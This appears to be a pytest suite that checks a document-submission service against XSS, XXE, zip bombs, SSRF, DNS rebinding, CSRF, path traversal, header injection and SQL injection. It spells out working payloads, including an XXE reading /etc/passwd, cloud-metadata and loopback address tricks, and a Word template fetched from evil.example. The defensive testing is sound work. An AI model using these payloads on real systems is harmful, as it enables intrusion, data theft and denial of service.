"""What hostile people try: each of it, and that nothing comes of it."""

from __future__ import annotations

import io
import socket
import threading
import zipfile
from collections.abc import Callable, Iterator
from contextlib import suppress
from html.parser import HTMLParser
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import urlsplit

import docx
import httpx
import psutil
import pytest

from detector.desk.guard import COOKIE
from detector.sources import web

SCRIPT = "<script>alert(1)</script>"
IMAGE = "\"><img src=x onerror='alert(1)'>"
TOKENS = {"Ruth": "0123456789abcdef"}
PUBLIC = "93.184.216.34"


class Markup(HTMLParser):
    """What a page could do: its scripts, handlers and addresses."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.handlers: list[str] = []
        self.addresses: list[str] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.handlers += [name for name, _ in attributes if name.startswith("on") or name == "style"]
        self.addresses += [
            value or "" for name, value in attributes if name in ("href", "src", "action", "formaction")
        ]


def harmless(page: str, *, scripts: int = 0) -> None:
    """Nothing of what was submitted can run in the page."""
    found = Markup(page)
    assert found.tags.count("script") == scripts
    assert not {"iframe", "object", "embed", "base", "img", "link", "meta"} & set(
        found.tags[found.tags.index("article") :]
    )
    assert found.handlers == []
    assert all(urlsplit(address).scheme in ("", "http", "https", "mailto") for address in found.addresses)


def word_file(text: str, **properties: str) -> bytes:
    """A Word file with a property for each thing that a writer can name."""
    made = docx.Document()
    made.add_paragraph(text)
    for name, value in properties.items():
        setattr(made.core_properties, name, value)
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


def with_part(data: bytes, name: str, change: Callable[[bytes], bytes]) -> bytes:
    """A Word file with one part changed."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for part in old.namelist():
            new.writestr(part, change(old.read(part)) if part == name else old.read(part))
    return out.getvalue()


# --- script ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "evil", [SCRIPT, IMAGE, "javascript:alert(1)", "{{7*7}}${7*7}", "</textarea><svg onload=alert(1)>"]
)
@pytest.mark.parametrize("where", ["text", "html", "markdown", "title", "author", "note", "name", "link"])
def test_script_wherever_it_can_be_written_is_text(api: Any, plain_text: str, where: str, evil: str) -> None:
    fields: dict[str, str] = {"text": plain_text}
    if where in ("text", "markdown"):
        fields = {where: f"{plain_text}\n\n{evil} said he.\n\n[a link]({evil})"}
    elif where == "html":
        fields = {
            "html": f"<p>{plain_text}<p title='{evil}'>{evil}<p onclick=alert(1) style='x:{evil}'>said he."
        }
    elif where == "link":
        fields = {
            "html": f"<p>{plain_text} <a href=\"javascript:alert(1)//{evil}\" rel='{SCRIPT}'>a word</a> here."
        }
    else:
        fields[where] = evil
    answer = api.post("/v1/submissions", json=fields, params={"wait": 60})
    post = answer.json()
    assert answer.headers["Content-Type"] == "application/json"
    if where in ("title", "author", "note", "name"):
        assert post[where] == evil  # kept and given back as it was written
    harmless(api.get(f"/submissions/{post['id']}/read").text)
    page = api.get(f"/v1/submissions/{post['id']}/export", params={"format": "html"})
    harmless(page.text, scripts=1)  # the report's own, by its digest
    assert page.headers["Content-Disposition"].startswith("attachment")
    assert "\n" not in page.headers["Content-Disposition"]
    word = api.get(f"/v1/submissions/{post['id']}/export")
    assert word.status_code == 200
    assert docx.Document(io.BytesIO(word.content)).paragraphs
    harmless_relations(word.content)


def harmless_relations(data: bytes) -> None:
    """A Word file leads nowhere but to the web."""
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        for name in package.namelist():
            if name.endswith(".rels"):
                assert "javascript:" not in package.read(name).decode().lower()
                assert "evil.example" not in package.read(name).decode()


def test_script_in_a_file_name_is_text(api: Any, plain_text: str) -> None:
    name = f"post{SCRIPT.replace('/', '')}.md"
    post = api.submit_file(name, plain_text.encode())
    assert post["name"] == name
    harmless(api.get(f"/submissions/{post['id']}/read").text)
    for path in ("original", "export?format=html", "export"):
        disposition = api.get(f"/v1/submissions/{post['id']}/{path}").headers["Content-Disposition"]
        assert disposition.startswith("attachment; ")
        assert "<" not in disposition


def test_script_in_the_properties_of_a_word_file_is_text(api: Any, plain_text: str) -> None:
    names = ("title", "author", "subject", "keywords", "comments", "category", "last_modified_by")
    data = word_file(plain_text, **dict.fromkeys(names, SCRIPT + IMAGE))
    post = api.submit_file("post.docx", data)
    assert post["outcome"] == "publish"
    harmless(api.get(f"/submissions/{post['id']}/read").text)
    harmless(api.get(f"/v1/submissions/{post['id']}/export", params={"format": "html"}).text, scripts=1)
    assert api.get(f"/v1/submissions/{post['id']}/export").status_code == 200


def test_a_word_file_that_fetches_comes_out_without(api: Any, plain_text: str) -> None:
    def add(relations: bytes) -> bytes:
        evil = (
            b'<Relationship Id="rIdEvil" TargetMode="External" Target="http://evil.example/t.dotm" Type='
            b'"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
        )
        return relations.replace(b"</Relationships>", evil + b"</Relationships>")

    data = with_part(word_file(plain_text), "word/_rels/document.xml.rels", add)
    post = api.submit_file("post.docx", data)
    harmless_relations(api.get(f"/v1/submissions/{post['id']}/export").content)


def test_answers_are_never_taken_for_pages(api: Any, plain_text: str) -> None:
    post = api.submit(plain_text, title=SCRIPT)
    for path in (f"/v1/submissions/{post['id']}", "/v1/submissions", f"/v1/{SCRIPT}"):
        answer = api.get(path)
        assert answer.headers["Content-Type"] == "application/json"
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
        assert answer.headers["Content-Security-Policy"].startswith("default-src 'none'")


# --- size --------------------------------------------------------------------------------------------------


def pieces(megabytes: int) -> Iterator[bytes]:
    for _ in range(megabytes):
        yield b"x" * 1_000_000


def test_a_huge_body_is_turned_away_however_it_comes(start_desk: Callable[..., Any]) -> None:
    desk = start_desk("--max-body", "2")
    server = psutil.Process(desk.process.pid)
    before = server.memory_info().rss
    json_type = {"Content-Type": "application/json"}
    for content in (b"x" * 3_000_000, pieces(200)):
        with suppress(httpx.TransportError):  # the desk may hang up while it is still being sent
            answer = httpx.post(f"{desk.url}/v1/score", content=content, headers=json_type, timeout=60)
            assert (answer.status_code, answer.json()["error"]["kind"]) == (413, "too_large")
    files = {"file": ("a.txt", io.BytesIO(b"x" * 50_000_000))}
    with suppress(httpx.TransportError):
        assert httpx.post(f"{desk.url}/v1/submissions/files", files=files, timeout=60).status_code == 413
    assert server.memory_info().rss - before < 60_000_000
    assert httpx.get(f"{desk.url}/v1/submissions").json()["total"] == 0
    assert httpx.post(f"{desk.url}/v1/score", json={"text": "a"}).status_code == 200


def test_a_client_that_says_nothing_more_holds_up_nobody(start_desk: Callable[..., Any]) -> None:
    desk = start_desk()
    address = urlsplit(desk.url)
    slow = []
    for _ in range(60):
        connection = socket.create_connection((address.hostname, address.port))
        head = f"POST /v1/score HTTP/1.1\r\nHost: {address.netloc}\r\nContent-Type: application/json\r\n"
        connection.sendall(f"{head}Content-Length: 100\r\n\r\n{{".encode())
        slow.append(connection)
    assert httpx.post(f"{desk.url}/v1/score", json={"text": "a"}, timeout=30).status_code == 200
    desk.process.terminate()
    assert desk.process.wait(30) == 0
    desk.stop()
    assert len(desk.said) == 1, desk.said  # where it listens
    for connection in slow:
        connection.close()


@pytest.mark.parametrize("name", ["bomb.docx", "bomb.odt"])
def test_a_zip_bomb_costs_nothing(api: Any, plain_text: str, name: str) -> None:
    out = io.BytesIO()
    part = "word/document.xml" if name.endswith("docx") else "content.xml"
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", "<Types/>")
        with package.open(part, "w") as stream:
            stream.write(
                b"<w:document xmlns:w='http://schemas.openxmlformats.org/wordprocessingml/2006/main'>"
            )
            for _ in range(300):
                stream.write(b" " * 1_000_000)
    post = api.submit_file(name, out.getvalue())
    assert (post["outcome"], post["error"]["kind"]) == ("unscored", "unreadable")
    assert api.get(f"/v1/submissions/{post['id']}/export").status_code == 200
    assert api.submit(plain_text)["outcome"] == "publish"


def test_a_page_that_unpacks_to_gigabytes_costs_nothing(api: Any) -> None:
    import gzip

    packed = gzip.compress(bytes(100_000_000), 9)
    assert api.submit_file("post.html", packed)["error"]["kind"] == "unreadable"


BOMB = (
    '<?xml version="1.0"?><!DOCTYPE b [<!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True))
    + "]>"
)
OUTSIDE = '<?xml version="1.0"?><!DOCTYPE b [<!ENTITY i SYSTEM "file:///etc/passwd">]>'


@pytest.mark.parametrize("doctype", [BOMB, OUTSIDE])
def test_entities_of_a_word_file_are_not_resolved(api: Any, plain_text: str, doctype: str) -> None:
    def add(document: bytes) -> bytes:
        _, _, rest = document.partition(b"?>")
        return doctype.encode() + rest.replace(b"<w:t>", b"<w:t>&i; ", 1)

    post = api.submit_file("post.docx", with_part(word_file(plain_text), "word/document.xml", add))
    assert (post["outcome"], post["error"]["kind"]) == ("unscored", "unreadable")
    assert "root:" not in str(api.get(f"/v1/submissions/{post['id']}").json())


@pytest.mark.parametrize("doctype", [BOMB, OUTSIDE])
def test_entities_of_an_opendocument_text_are_not_resolved(api: Any, plain_text: str, doctype: str) -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        spaces = 'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" ' \
                 'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'  # fmt: skip
        body = f"<office:body><office:text><text:p>{plain_text} &i;</text:p></office:text></office:body>"
        package.writestr(
            "content.xml", f"{doctype}<office:document-content {spaces}>{body}</office:document-content>"
        )
    post = api.submit_file("post.odt", out.getvalue())
    assert (post["outcome"], post["error"]["kind"]) == ("unscored", "unreadable")
    assert "root:" not in str(api.get(f"/v1/submissions/{post['id']}").json())


# --- addresses ---------------------------------------------------------------------------------------------


class Inside(ThreadingHTTPServer):
    """A server that nobody outside may reach; it counts who comes, and redirects where it is told to."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        self.target = ""
        server = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                server.asked.append(self.path)
                away = server.target and self.path == "/away"
                self.send_response(302 if away else 404 if self.path == "/robots.txt" else 200)
                if away:
                    self.send_header("Location", server.target)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(b"<p>the secrets of the house")

            def log_message(self, *args: object) -> None:
                pass

        super().__init__(("127.0.0.1", 0), Handler)
        self.port = self.server_address[1]


@pytest.fixture
def inside() -> Iterator[Inside]:
    web._robots.clear()
    with Inside() as server:
        thread = threading.Thread(target=server.serve_forever, args=(0.01,))
        thread.start()
        yield server
        server.shutdown()
        thread.join()


@pytest.fixture
def names(monkeypatch: pytest.MonkeyPatch) -> dict[str, list[str]]:
    """Names and the addresses they have, one after the other; the public address leads to this machine."""
    answers: dict[str, list[str]] = {}
    look_up, connect = socket.getaddrinfo, socket.create_connection

    def getaddrinfo(host: str, *args: Any, **options: Any) -> list[Any]:
        known = answers.get(host)
        return look_up((known.pop(0) if len(known) > 1 else known[0]) if known else host, *args, **options)

    def create_connection(address: tuple[str, int], *args: Any, **options: Any) -> socket.socket:
        there = "127.0.0.1" if address[0] == PUBLIC else address[0]
        return connect((there, address[1]), *args, **options)

    monkeypatch.setattr(socket, "getaddrinfo", getaddrinfo)
    monkeypatch.setattr(socket, "create_connection", create_connection)
    return answers


def refused(api: Any, url: str) -> None:
    """The address is asked for in every way, and never read."""
    scored = api.post("/v1/score", json={"url": url})
    assert scored.status_code == 200
    assert scored.json()["error"]["kind"] == "unreadable"
    submitted = api.post("/v1/submissions", json={"url": url}, params={"wait": 60})
    if submitted.status_code == 422:  # it is no address at all
        return
    post = submitted.json()
    assert (post["outcome"], post["error"]["kind"]) == ("unscored", "unreadable")
    assert "secrets" not in str(api.get(f"/v1/submissions/{post['id']}").json())
    assert api.get(f"/v1/submissions/{post['id']}/original").content == b""


@pytest.mark.parametrize(
    "host",
    [
        "127.0.0.1", "localhost", "127.1", "2130706433", "0x7f000001", "0177.0.0.1", "0.0.0.0", "0",
        "[::1]", "[::]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[64:ff9b::7f00:1]", "127.0.0.1.",
        "①②⑦.⓪.⓪.①", "ruth@127.0.0.1",
    ],
)  # fmt: skip
def test_no_address_leads_into_this_machine(api: Any, inside: Inside, host: str) -> None:
    refused(api, f"http://{host}:{inside.port}/page")
    assert inside.asked == []


@pytest.mark.parametrize(
    "address",
    [
        "10.0.0.1",
        "172.16.0.1",
        "192.168.1.1",
        "169.254.169.254",
        "100.64.0.1",
        "fd00::1",
        "fe80::1",
        "224.0.0.1",
    ],
)
def test_no_name_leads_into_a_private_network(
    api: Any, names: dict[str, list[str]], inside: Inside, address: str
) -> None:
    names["heron.test"] = [address]
    refused(api, f"http://heron.test:{inside.port}/page")
    assert inside.asked == []


@pytest.mark.parametrize(
    "target",
    [
        "http://127.0.0.1:{}/secret", "http://[::ffff:127.0.0.1]:{}/", "//2130706433:{}/", "http://inner.test:{}/",
        "file:///etc/passwd", "gopher://127.0.0.1:{}/",
    ],
)  # fmt: skip
def test_no_redirect_leads_into_this_machine(
    api: Any, names: dict[str, list[str]], inside: Inside, target: str
) -> None:
    names |= {"heron.test": [PUBLIC], "inner.test": ["127.0.0.1"]}
    inside.target = target.format(inside.port)
    refused(api, f"http://heron.test:{inside.port}/away")
    assert set(inside.asked) == {"/robots.txt", "/away"}  # what the public address has answered, and no more


def test_a_name_that_changes_its_address_between_check_and_connection_is_not_followed(
    api: Any, names: dict[str, list[str]], inside: Inside, monkeypatch: pytest.MonkeyPatch
) -> None:
    connected: list[str] = []
    connect = socket.create_connection

    def note(address: tuple[str, int], *args: Any, **options: Any) -> socket.socket:
        connected.append(address[0])
        return connect(address, *args, **options)

    monkeypatch.setattr(socket, "create_connection", note)
    names["heron.test"] = [PUBLIC, "127.0.0.1"]  # public when it is checked, this machine ever after
    api.post("/v1/score", json={"url": f"http://heron.test:{inside.port}/page"})
    assert set(connected) <= {PUBLIC}  # only what was checked is connected to


# --- other sites -------------------------------------------------------------------------------------------


def test_a_page_of_another_site_does_nothing_with_its_readers_cookie(
    make_api: Callable[..., Any], plain_text: str
) -> None:
    api = make_api(tokens=TOKENS)
    login = api.post("/login", json={"token": TOKENS["Ruth"]})
    assert login.status_code == 204
    given = login.headers["Set-Cookie"].lower()
    assert "httponly" in given
    assert "samesite=strict" in given
    cookie = {"Cookie": f"{COOKIE}={TOKENS['Ruth']}"}
    post = api.post("/v1/submissions", json={"text": plain_text}, headers=cookie).json()
    for evil in ({"Origin": "https://evil.example"}, {"Origin": "null"}, {"Sec-Fetch-Site": "cross-site"}):
        headers = cookie | evil
        for method, path, body in (
            ("POST", "/v1/submissions", {"text": plain_text}),
            ("PATCH", f"/v1/submissions/{post['id']}", {"state": "accepted"}),
            ("DELETE", f"/v1/submissions/{post['id']}", None),
            ("POST", "/logout", None),
            ("POST", "/v1/archive", {"sitemap": "http://evil.example/sitemap.xml"}),
        ):
            assert api.ask(method, path, json=body, headers=headers).status_code == 403, path
    # a form can send no JSON, and no other media type is taken
    form = api.post("/v1/submissions", data={"text": "a"}, headers=cookie)
    assert form.status_code == 415
    assert api.get("/v1/submissions", headers=cookie).json()["total"] == 1
    assert api.get(f"/v1/submissions/{post['id']}", headers=cookie).json()["state"] == "new"
    preflight = api.ask("OPTIONS", "/v1/submissions", headers=cookie | {"Origin": "https://evil.example"})
    assert "access-control-allow-origin" not in preflight.headers


def test_only_a_token_opens_the_desk(make_api: Callable[..., Any]) -> None:
    api = make_api(tokens=TOKENS)
    wrong = api.post("/login", json={"token": "0123456789abcdeX"})
    assert (wrong.status_code, "Set-Cookie" in wrong.headers) == (401, False)
    assert api.get("/v1/submissions").status_code == 401
    assert api.get("/", headers={"Cookie": f"{COOKIE}=guess"}).status_code == 303
    out = api.post("/logout", headers={"Authorization": f"Bearer {TOKENS['Ruth']}"})
    assert (out.status_code, f"{COOKIE}=" in out.headers["Set-Cookie"]) == (204, True)
    assert "max-age=0" in out.headers["Set-Cookie"].lower()


def test_a_name_that_was_bound_to_this_machine_opens_nothing(api: Any) -> None:
    for path in ("/", "/v1/submissions", "/v1/health", "/assets/desk.css"):
        answer = api.get(path, headers={"Host": "evil.example:8765"})
        assert (answer.status_code, answer.json()["error"]["kind"]) == (421, "wrong_host"), path


# --- names and words ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("sent", "kept"),
    [
        ("../../etc/passwd", "passwd"),
        ("..\\..\\windows\\system32\\post.md", "post.md"),
        ("C:\\x", "x"),
        ("/etc/cron.d/post.txt", "post.txt"),
        ("....//post.txt", "post.txt"),
        ("..", ""),
        (".htaccess", "htaccess"),
        ("post\r\nSet-Cookie: a=b.txt", "post Set-Cookie: a=b.txt"),
        ("post\u202etxt.exe", "post txt.exe"),
        ("x" * 300 + ".docx", "x" * 250 + ".docx"),
        ("a\0b.txt", "a b.txt"),
    ],
)
def test_a_path_in_a_name_leads_nowhere(api: Any, plain_text: str, sent: str, kept: str) -> None:
    boundary = "boundary0123456789"
    body = (
        f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="'.encode()
        + sent.replace("\r\n", "%0D%0A").encode()
        + f'"\r\n\r\n{plain_text}\r\n--{boundary}--\r\n'.encode()
    )
    headers = {"Content-Type": f"multipart/form-data; boundary={boundary}"}
    answer = api.post("/v1/submissions/files", content=body, headers=headers, params={"wait": 60})
    (post,) = answer.json()["items"]
    assert post["name"].replace("%0D%0A", " ") == kept
    disposition = api.get(f"/v1/submissions/{post['id']}/original").headers["Content-Disposition"]
    assert "/" not in disposition.partition("filename*")[0]
    assert ".." not in disposition


@pytest.mark.parametrize(
    "words",
    [
        "' OR 1=1 --", "'; DROP TABLE submissions; --", '" OR ""="', "bench' UNION SELECT sql FROM sqlite_master --",
        "%", "_", "*", "title:bench", "NEAR(a b)", "AND", "OR NOT", "(", '"', "bench*", "^bench", "{a b}: c", "a\0b",
        "\\", "); SELECT pg_sleep(9); --", "-", "🙂", "\ud83d",
    ],
)  # fmt: skip
def test_sql_in_a_search_is_words(api: Any, plain_text: str, words: str) -> None:
    post = api.submit(plain_text)
    for name in ("q", "author", "assignee"):
        answer = api.get("/v1/submissions", params={name: words.encode("utf-8", "surrogatepass")})
        assert answer.status_code in (200, 422), answer.text
    injected = api.get("/v1/submissions", params={"q": "zzz' OR 1=1 --"}).json()
    assert injected["total"] == 0
    for name in ("state", "outcome", "sort", "after"):
        assert api.get("/v1/submissions", params={name: "' OR 1=1 --"}).status_code == 422
    assert api.get(f"/v1/submissions/{post['id']}").status_code == 200
